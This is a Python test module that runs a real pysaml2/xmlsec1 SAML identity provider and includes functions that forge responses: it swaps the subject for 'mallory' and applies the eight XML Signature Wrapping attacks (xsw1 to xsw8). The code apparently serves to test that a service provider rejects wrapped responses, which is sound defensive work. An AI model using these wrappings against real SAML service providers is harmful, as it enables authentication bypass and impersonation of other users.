"""A real SAML identity provider (pysaml2 with xmlsec1) for tests, and what an attacker does to its answers."""

from __future__ import annotations

import base64
import copy
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

from lxml import etree
from saml2 import BINDING_HTTP_REDIRECT
from saml2.config import IdPConfig
from saml2.saml import NAMEID_FORMAT_PERSISTENT, NameID
from saml2.server import Server

ENTITY = "https://idp.example.com/metadata"
SINGLE_SIGN_ON = "https://idp.example.com/sso"
SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
DIGEST256 = "http://www.w3.org/2001/04/xmlenc#sha256"
NS = {
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}


class SamlProvider:
    """An identity provider that knows one service provider by its metadata."""

    def __init__(self, folder: Path, entity: str = ENTITY) -> None:
        self._folder = folder
        self._entity = entity
        folder.mkdir(parents=True, exist_ok=True)
        self._key, self._certificate = _keys(folder)
        self._server: Server | None = None

    @property
    def metadata(self) -> str:
        """The provider's metadata."""
        certificate = "".join(self._certificate.read_text().split("\n")[1:-2])
        return f"""<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="{self._entity}">
<md:IDPSSODescriptor protocolSupportEnumeration="{NS["samlp"]}"><md:KeyDescriptor use="signing">
<ds:KeyInfo xmlns:ds="{NS["ds"]}"><ds:X509Data><ds:X509Certificate>{certificate}</ds:X509Certificate></ds:X509Data>
</ds:KeyInfo></md:KeyDescriptor>
<md:SingleSignOnService Binding="{BINDING_HTTP_REDIRECT}" Location="{SINGLE_SIGN_ON}"/></md:IDPSSODescriptor>
</md:EntityDescriptor>"""

    def knows(self, service_provider: str) -> None:
        """Let the provider answer a service provider."""
        path = self._folder / "sp.xml"
        path.write_text(service_provider)
        settings: dict[str, Any] = {
            "entityid": self._entity,
            "xmlsec_binary": shutil.which("xmlsec1"),
            "key_file": str(self._key),
            "cert_file": str(self._certificate),
            "metadata": {"local": [str(path)]},
            "service": {
                "idp": {
                    "endpoints": {"single_sign_on_service": [(SINGLE_SIGN_ON, BINDING_HTTP_REDIRECT)]},
                    "policy": {"default": {"lifetime": {"minutes": 5}, "attribute_restrictions": None}},
                    "name_id_format": [NAMEID_FORMAT_PERSISTENT],
                }
            },
        }
        self._server = Server(config=IdPConfig().load(settings))

    def answer(
        self,
        address: str,
        *,
        subject: str = "ann@corp.example",
        attributes: dict[str, list[str]] | None = None,
        sign_assertion: bool = True,
        sign_response: bool = False,
        **changed: Any,
    ) -> str:
        """Read the request in an address that a browser was sent to; return the response, as a form carries it."""
        assert self._server is not None
        query = parse_qs(urlsplit(address).query)
        request = self._server.parse_authn_request(query["SAMLRequest"][0], BINDING_HTTP_REDIRECT).message
        told = {
            "in_response_to": request.id,
            "destination": request.assertion_consumer_service_url,
            "sp_entity_id": request.issuer.text,
        }
        made = self._server.create_authn_response(
            {"email": [subject], "displayName": ["Ann Example"], "groups": ["engineers"], **(attributes or {})},
            **{**told, **changed},
            name_id=NameID(format=NAMEID_FORMAT_PERSISTENT, text=subject),
            authn={"class_ref": "urn:oasis:names:tc:SAML:2.0:ac:classes:Password", "authn_auth": self._entity},
            sign_assertion=sign_assertion,
            sign_response=sign_response,
            sign_alg=SHA256,
            digest_alg=DIGEST256,
        )
        return encoded(str(made).encode())

    def signed(self, xml: bytes, node: str = f"{NS['saml']}:Assertion") -> bytes:
        """Sign the assertion of a response again, by xmlsec1, as the provider would."""
        path = self._folder / "unsigned.xml"
        path.write_bytes(xml)
        command = ["xmlsec1", "--sign", "--privkey-pem", str(self._key), "--id-attr:ID", node, str(path)]
        return subprocess.run(command, capture_output=True, check=True).stdout


def encoded(xml: bytes) -> str:
    """Return a document as a form carries it."""
    return base64.b64encode(xml).decode()


def decoded(response: str) -> etree._Element:
    """Return the document in a form's field."""
    return etree.fromstring(base64.b64decode(response))


def wrapped(response: str, how: Callable[[etree._Element, etree._Element, etree._Element], etree._Element]) -> str:
    """Return a response after an attack: `how` gets the response, its assertion, and a forged copy of the assertion."""
    root = decoded(response)
    original = root.find("saml:Assertion", NS)
    forged = copy.deepcopy(original)
    forged.set("ID", "_forged")
    forged.find("saml:Subject/saml:NameID", NS).text = "mallory@corp.example"
    for value in forged.iterfind(".//saml:AttributeValue", NS):
        if "@" in (value.text or ""):
            value.text = "mallory@corp.example"
    return encoded(etree.tostring(how(root, original, forged)))


def _signature(node: etree._Element) -> etree._Element:
    return node.find("ds:Signature", NS)


def _bare(node: etree._Element) -> etree._Element:
    """A copy without its own signature."""
    made = copy.deepcopy(node)
    if _signature(made) is not None:
        made.remove(_signature(made))
    return made


def xsw1(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """The signed response becomes part of its own moved signature, inside a forged response."""
    outer = copy.deepcopy(root)
    outer.set("ID", "_outer")
    outer.replace(outer.find("saml:Assertion", NS), _bare(forged))
    signature = _signature(outer)
    if signature is None:
        signature = copy.deepcopy(_signature(original))
        outer.insert(1, signature)
    signature.append(_bare(root))
    return outer


def xsw2(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """The signed response stands beside a detached signature in a forged response."""
    outer = copy.deepcopy(root)
    outer.set("ID", "_outer")
    outer.replace(outer.find("saml:Assertion", NS), _bare(forged))
    if _signature(outer) is None:
        outer.insert(1, copy.deepcopy(_signature(original)))
    outer.insert(1, _bare(root))
    return outer


def xsw3(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """A forged assertion before the signed one."""
    root.insert(list(root).index(original), _bare(forged))
    return root


def xsw4(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """The signed assertion inside a forged one."""
    outer = _bare(forged)
    root.replace(original, outer)
    outer.append(original)
    return root


def xsw5(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """The forged assertion carries the signature; the signed one, bare, follows it."""
    root.append(_bare(original))
    root.replace(original, forged)
    return root


def xsw6(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """The forged assertion carries the signature, and that carries the signed one."""
    _signature(forged).append(_bare(original))
    root.replace(original, forged)
    return root


def xsw7(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """A forged assertion hides in Extensions, where the schema allows anything."""
    extensions = etree.SubElement(root, f"{{{NS['samlp']}}}Extensions")
    root.insert(1, extensions)
    extensions.append(_bare(forged))
    return root


def xsw8(root: etree._Element, original: etree._Element, forged: etree._Element) -> etree._Element:
    """The signed assertion hides in an Object of the forged one's signature, where the schema allows anything."""
    thing = etree.SubElement(_signature(forged), f"{{{NS['ds']}}}Object")
    thing.append(_bare(original))
    root.replace(original, forged)
    return root


WRAPPINGS = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)


def _keys(folder: Path) -> tuple[Path, Path]:
    key, certificate = folder / "key.pem", folder / "certificate.pem"
    if not key.exists():
        subject = ["-subj", "/CN=idp.example.com", "-days", "3650", "-nodes"]
        made = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-keyout", str(key), "-out", str(certificate)]
        subprocess.run([*made, *subject], capture_output=True, check=True)
    return key, certificate
